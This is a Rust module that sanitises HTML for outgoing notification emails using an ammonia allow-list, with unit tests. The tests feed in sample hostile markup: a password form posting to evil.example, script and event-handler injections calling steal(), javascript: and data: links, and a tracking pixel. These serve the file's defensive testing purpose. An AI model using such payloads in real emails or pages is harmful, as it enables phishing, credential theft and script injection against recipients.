//! The markup a caller may put in a notification. Its emails go out from the platform's
//! verified sender to any address a writer adds, so whatever is not plain formatting is
//! dropped: scripts, styles, forms and their controls, frames, event handler attributes,
//! `javascript:`/`data:` and relative URLs, and (unless `EMAIL_ALLOW_REMOTE_IMAGES`) images,
//! which would load from the caller's server and report who opened the email. An allow-list
//! (ammonia), not a block-list: anything not named below is removed.

use std::collections::{HashMap, HashSet};
use std::sync::OnceLock;

use ammonia::{Builder, UrlRelative};

const FORMATTING: &[&str] = &[
    "a",
    "p",
    "br",
    "hr",
    "div",
    "span",
    "strong",
    "b",
    "em",
    "i",
    "u",
    "s",
    "small",
    "sub",
    "sup",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "blockquote",
    "code",
    "pre",
    "table",
    "caption",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "th",
    "td",
];

/// Removed with everything inside them: their content is code or form state, not text to read.
const DROPPED_WITH_CONTENT: &[&str] = &[
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "noscript", "template",
    "textarea", "select", "button", "svg", "math",
];

const URL_SCHEMES: &[&str] = &["https", "http", "mailto"];

fn builder(remote_images: bool) -> Builder<'static> {
    let mut tags: HashSet<&str> = FORMATTING.iter().copied().collect();
    let mut attributes = HashMap::from([
        ("a", HashSet::from(["href", "title"])),
        ("td", HashSet::from(["colspan", "rowspan"])),
        ("th", HashSet::from(["colspan", "rowspan", "scope"])),
        ("ol", HashSet::from(["start"])),
    ]);
    if remote_images {
        tags.insert("img");
        attributes.insert("img", HashSet::from(["src", "alt", "width", "height"]));
    }
    let mut b = Builder::empty();
    b.tags(tags)
        .clean_content_tags(DROPPED_WITH_CONTENT.iter().copied().collect())
        .tag_attributes(attributes)
        .generic_attributes(HashSet::from(["title", "lang", "dir"]))
        .url_schemes(URL_SCHEMES.iter().copied().collect())
        // An email has no base URL: a relative link could only lead somewhere unintended.
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true);
    b
}

/// `html` with only the allowed formatting and links left; `remote_images` keeps `img`
/// elements with http(s) sources.
pub(crate) fn sanitize(html: &str, remote_images: bool) -> String {
    static WITHOUT_IMAGES: OnceLock<Builder<'static>> = OnceLock::new();
    static WITH_IMAGES: OnceLock<Builder<'static>> = OnceLock::new();
    let cell = if remote_images { &WITH_IMAGES } else { &WITHOUT_IMAGES };
    cell.get_or_init(|| builder(remote_images)).clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::sanitize;

    fn clean(html: &str) -> String {
        sanitize(html, false)
    }

    #[test]
    fn formatting_lists_headings_tables_quotes_and_code_are_kept() {
        let html = "<h2>Invoice</h2><p>Dear <strong>Ada</strong>, <em>thanks</em><br>bye</p>\
            <ul><li>one</li></ul><ol><li>two</li></ol><blockquote>q</blockquote>\
            <pre><code>x = 1</code></pre><table><tr><th>Item</th><td colspan=\"2\">5</td></tr></table>";
        let out = clean(html);
        for kept in [
            "<h2>Invoice</h2>",
            "<strong>Ada</strong>",
            "<em>thanks</em>",
            "<br>",
            "<ul><li>one</li></ul>",
            "<ol><li>two</li></ol>",
            "<blockquote>q</blockquote>",
            "<pre><code>x = 1</code></pre>",
            "<th>Item</th>",
            "<td colspan=\"2\">5</td>",
        ] {
            assert!(out.contains(kept), "{kept} kept in {out}");
        }
    }

    #[test]
    fn an_https_link_is_kept_and_opens_without_opener_or_referrer() {
        let out = clean("<a href=\"https://acme.example/invoices/7\">your invoice</a>");
        assert_eq!(
            out,
            "<a href=\"https://acme.example/invoices/7\" rel=\"noopener noreferrer\">your invoice</a>"
        );
    }

    #[test]
    fn scripts_and_styles_are_dropped_with_their_content() {
        let out = clean("<p>hi</p><script>steal()</script><style>p { display: none }</style>");
        assert_eq!(out, "<p>hi</p>");
    }

    #[test]
    fn forms_and_their_controls_are_dropped() {
        let out = clean(
            "<form action=\"https://evil.example/collect\" method=\"post\"><label>Password</label>\
             <input type=\"password\" name=\"pw\"><select><option>a</option></select>\
             <textarea>x</textarea><button>Log in</button></form>",
        );
        for gone in
            ["<form", "action=", "<input", "<select", "<textarea", "<button", "Log in", "evil.example"]
        {
            assert!(!out.contains(gone), "{gone} dropped from {out}");
        }
    }

    #[test]
    fn frames_and_embedded_objects_are_dropped() {
        let out = clean(
            "<iframe src=\"https://evil.example\"></iframe><object data=\"x.swf\"></object>\
             <embed src=\"x.swf\"><svg onload=\"steal()\"></svg>",
        );
        assert_eq!(out, "");
    }

    #[test]
    fn event_handler_and_style_attributes_are_dropped() {
        let out = clean(
            "<p onclick=\"steal()\" style=\"color:red\" class=\"x\" id=\"y\">hi</p>\
             <a href=\"https://acme.example\" onmouseover=\"steal()\">link</a>",
        );
        for gone in ["onclick", "onmouseover", "steal", "style=", "class=", "id="] {
            assert!(!out.contains(gone), "{gone} dropped from {out}");
        }
        assert!(out.contains("<p>hi</p>"), "{out}");
    }

    #[test]
    fn javascript_data_and_relative_urls_are_dropped_from_links() {
        for href in [
            "javascript:steal()",
            "JaVaScRiPt:steal()",
            " javascript:steal()",
            "data:text/html;base64,PHNjcmlwdD4=",
            "/relative/path",
            "vbscript:x",
        ] {
            let out = clean(&format!("<a href=\"{href}\">click</a>"));
            assert!(!out.contains("href"), "{href}: {out}");
            assert!(out.contains("click"), "the link text stays: {out}");
        }
    }

    #[test]
    fn images_are_dropped_unless_remote_images_are_allowed() {
        let html = "<p>logo</p><img src=\"http://tracker.example/pixel.gif?u=1\" width=\"1\">";
        assert_eq!(clean(html), "<p>logo</p>");
        assert_eq!(
            sanitize(html, true),
            "<p>logo</p><img src=\"http://tracker.example/pixel.gif?u=1\" width=\"1\">"
        );
    }

    #[test]
    fn allowed_images_still_cannot_use_data_or_javascript_urls_or_handlers() {
        let out = sanitize(
            "<img src=\"data:image/png;base64,AAAA\"><img src=\"javascript:steal()\" onerror=\"steal()\">",
            true,
        );
        for gone in ["data:", "javascript:", "onerror", "steal"] {
            assert!(!out.contains(gone), "{gone} dropped from {out}");
        }
    }

    #[test]
    fn comments_are_dropped() {
        assert_eq!(clean("<p>a<!-- [if mso]><script>x</script><![endif] --></p>"), "<p>a</p>");
    }
}
